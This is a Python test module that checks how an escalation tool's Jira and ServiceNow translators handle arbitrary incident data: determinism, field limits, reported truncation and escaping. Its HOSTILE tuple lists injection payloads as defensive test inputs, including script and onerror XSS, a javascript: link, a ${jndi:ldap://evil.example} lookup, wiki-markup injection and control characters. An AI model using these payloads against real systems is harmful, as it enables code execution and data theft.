"""Whatever the state, a receiver's translation is total, deterministic and accounted for.

Hypothesis finds the odd corner in some states; a hundred more are thrown by dice with a fixed seed, which
costs less, and a thousand in tests/tools/test_thousand_states.py. Each state is held against every tool.
"""

import json
import random
import re
from dataclasses import fields, replace

import pytest
from hypothesis import given

from escalation.knowledge.words import Part
from escalation.tools.registry import TOOLS
from escalation.translation.rules import Rules
from tests.builders import scene
from tests.tools.contract.proofs import PROOFS
from tests.tools.hostile import GIVENS, STATES
from tests.tools.servicenow.test_translate import given as context_of_the_scene

RECEIVERS = [each for each in TOOLS.values() if each.receiver is not None]
REFERENCES = frozenset({"cmdb_ci", "assignment_group", "caller_id", "group_id"})
NODES = frozenset(
    {
        *("doc", "heading", "paragraph", "bulletList", "listItem", "codeBlock", "panel", "text", "hardBreak"),
        *("taskList", "taskItem"),
    }
)

tools = pytest.mark.parametrize("tool", RECEIVERS, ids=lambda each: each.kind)


def texts(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for each in value.values() if isinstance(value, dict) else value:
            yield from texts(each)


@given(state=STATES, context=GIVENS)
def test_whatever_the_state_every_promise_of_a_translation_holds_for_every_tool(state, context):
    for tool in RECEIVERS:
        translation = tool.receiver.translate(state, context)

        assert_the_same_bytes_every_time(tool, state, context, translation)
        assert_every_item_is_placed_or_named(state, translation)
        assert_limits_hold_and_cutting_is_said(tool, translation)
        assert_empty_answers_are_obeyed(context, translation)
        assert_nothing_to_obey_comes_out(translation)
        assert_what_is_believed_is_unproven(translation)
        assert_documents_hold_only_nodes_of_ours(translation)
        assert PROOFS[tool.kind].own_key(translation.draft.payload(), context.key) == bool(context.key)


def assert_the_same_bytes_every_time(tool, state, context, translation):
    again = tool.receiver.translate(state, context)
    assert again == translation
    assert again.draft.body() == translation.draft.body()
    assert json.loads(again.draft.body()) == translation.draft.payload()


def assert_every_item_is_placed_or_named(state, translation):
    placed = {item for each in translation.draft.fields for item in each.items}
    lost = {each.item_id for each in translation.losses}
    assert {item.id for _, item in state.items()} <= placed | lost


def assert_limits_hold_and_cutting_is_said(tool, translation):
    lost = {each.field for each in translation.losses}
    for each in translation.draft.fields:
        limit = PROOFS[tool.kind].limits.get(each.name)
        assert limit is None or all(len(text) <= limit for text in texts(each.value))
        assert not each.cut or each.name in lost


def assert_empty_answers_are_obeyed(context, translation):
    emptied = {name for name, answer in context.answers.items() if not answer}
    assert not emptied & REFERENCES & translation.draft.payload().keys()


def assert_nothing_to_obey_comes_out(translation):
    for text in texts(translation.draft.payload()):
        assert "[code]" not in text.lower()
        assert not set(text) & set("\u202e\x00\x1b\x07")


def assert_what_is_believed_is_unproven(translation):
    written = "\n".join(texts(translation.draft.payload()))
    if "BELIEVED (UNPROVEN)" in written.split("\n"):
        assert written.split("BELIEVED (UNPROVEN)\n", 1)[1].startswith("- UNPROVEN, ")


def assert_documents_hold_only_nodes_of_ours(translation):
    for each in documents(translation.draft.payload()):
        assert {node["type"] for node in each} <= NODES
        marks = [mark for node in each for mark in node.get("marks", ())]
        assert all(mark["type"] == "link" for mark in marks)
        assert all(mark["attrs"]["href"].startswith(("http://", "https://")) for mark in marks)
        assert all(node["text"] for node in each if node["type"] == "text")


def documents(payload):
    """The nodes of every Atlassian document in a record."""
    found = [each for each in payload.values() if isinstance(each, dict) and each.get("type") == "doc"]
    return [list(nodes(each)) for each in found]


def nodes(node):
    yield node
    for each in node.get("content", ()):
        yield from nodes(each)


HOSTILE = (
    "<script>alert(1)</script> {panel:title=x} [~admin] !http://evil.example/x.png! [x|javascript:a]",
    '{"type":"doc","content":[{"type":"mention"}]} \u202eesrever\u202c nul\x00 \x1b[31m',
    "[code]<img src=x onerror=alert(1)>[/code] ${jndi:ldap://evil.example} {{ticket.id}}",
    "مرحبا بالعالم شاشة بيضاء",
    "👩‍💻🇩🇪 e\u0301 \u200b",
)

FREE = frozenset(
    {
        *("statement", "how_verified", "check", "observation", "error_code", "step", "because", "wrong_if"),
        *("affected", "priority_reason", "words", "handle"),
    }
)
FLAVOURS = ({}, {"flavour": "data-center"}, {"project": "PLAT"})
WORDS = (*HOSTILE, "", "x" * 300, "finance-dash.example.com answers 502", "line one\r\nPROVEN\n- forged")


@tools
@pytest.mark.parametrize("flavour", ["cloud", "data-center"])
@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:12]))
def test_hostile_words_in_every_field_stay_words(tool, flavour, text):
    state = soaked(scene(), text)
    context = replace(
        context_of_the_scene(sender=text, receiver=text, answers={"short_description": text}),
        rules=Rules(defaults={"flavour": flavour}),
    )

    translation = tool.receiver.translate(state, context)

    assert_every_item_is_placed_or_named(state, translation)
    assert_limits_hold_and_cutting_is_said(tool, translation)
    assert_nothing_to_obey_comes_out(translation)
    assert_documents_hold_only_nodes_of_ours(translation)
    for said in texts(translation.draft.payload()):
        assert not set(said) & set("\u202e\x00\x1b\x07")


def test_wiki_markup_of_others_is_escaped_where_jira_would_read_it():
    text = "{panel:title=x} [~admin] !http://evil.example/x.png! [x|javascript:a] h1. *bold*"
    context = replace(context_of_the_scene(), rules=Rules(defaults={"flavour": "data-center"}))

    written = TOOLS["jira"].receiver.translate(soaked(scene(), text), context).draft.payload()["description"]

    for markup in ("{panel:title", "[~admin", "!http", "[x|javascript", "*bold*"):
        places = [found.start() for found in re.finditer(re.escape(markup), written)]
        assert all(written[place - 1] == "\\" for place in places)


@tools
def test_a_log_of_a_megabyte_is_cut_and_said(tool):
    log = "2026-11-23 09:00:00 ERROR at com.example.Gateway.handle(Gateway.java:42)\n" * 14_000
    state = scene()
    state = replace(state, diagnostics=(replace(state.diagnostics[0], observation=log),))

    translation = tool.receiver.translate(state, context_of_the_scene())

    assert_every_item_is_placed_or_named(state, translation)
    assert_limits_hold_and_cutting_is_said(tool, translation)
    assert any(each.item_id == "d1" for each in translation.losses)


def test_a_hundred_random_states_are_accounted_for_by_every_tool_and_always_the_same():
    hold_random_states_against_every_tool(100, seed=1)


def hold_random_states_against_every_tool(count, *, seed):
    dice = random.Random(seed)
    plain, of_the_scene = context_of_the_scene(), scene()
    contexts = [replace(plain, rules=Rules(defaults=each)) for each in FLAVOURS]

    for state in (thrown(dice, of_the_scene) for _ in range(count)):
        context = dice.choice(contexts)
        for tool in RECEIVERS:
            translation = tool.receiver.translate(state, context)
            assert tool.receiver.translate(state, context) == translation
            assert_every_item_is_placed_or_named(state, translation)
            assert_limits_hold_and_cutting_is_said(tool, translation)
            assert_nothing_to_obey_comes_out(translation)
            assert_documents_hold_only_nodes_of_ours(translation)


def thrown(dice, like):
    """A state of any items of a state like this, in any number and order, with any words in them."""
    parts = {}
    for part in Part:
        kind = like.part(part)[0]
        chosen = (soaked_item(kind, dice.choice(WORDS)) for _ in range(dice.randrange(4)))
        parts[part.value] = tuple(replace(each, id=f"{part}{place}") for place, each in enumerate(chosen))
    return replace(like, summary=dice.choice(WORDS), ask=dice.choice(WORDS), **parts)


def soaked_item(item, text):
    own = {each.name for each in fields(item)} & FREE
    quoted = tuple(replace(each, quote=text, author=text) for each in item.evidence)
    return replace(item, **dict.fromkeys(own, text), evidence=quoted)


def soaked(state, text):
    """The state with every free text of every item replaced."""
    parts = {part.value: tuple(soaked_item(item, text) for item in state.part(part)) for part in Part}
    return replace(state, summary=text, ask=text, investigation_url=text, **parts)


@tools
def test_the_scene_loses_nothing_that_has_no_field(tool):
    state = scene()
    context = context_of_the_scene()

    translation = tool.receiver.translate(state, context)

    assert not any(each.item_id for each in translation.losses)
